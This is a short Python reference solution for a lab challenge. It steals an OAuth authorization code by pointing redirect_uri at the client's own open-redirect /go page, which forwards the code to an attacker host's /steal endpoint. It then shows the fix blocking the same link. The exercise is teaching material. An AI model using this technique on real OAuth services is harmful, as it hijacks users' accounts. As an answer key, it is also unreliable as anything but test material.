# A reference solution for challenge 18.open_redirect: the redirect URI is the client's own /go page, which the
# server accepts (same origin) and which forwards its whole query, code included, to your site.
me = httpx.Client(trust_env=False)
request = query_of(me.get(f"{lab.flow.client.url}/login").headers["location"])
request["redirect_uri"] = f"{lab.flow.client.url}/go?" + urlencode({"to": f"{lab.flow.attacker.url}/steal"})
link = f"{lab.flow.as_.url}/authorize?{urlencode(request)}"
lab.flow.victim.visit(link)
print(lab.flow.attacker.received[-1].path, "got a code:", "code" in lab.flow.attacker.received[-1].params)
lab.flow.disable("open_redirect")
print(lab.flow.victim.visit(link)[-1])                        # the same link stops at /go: 400
challenge.check()
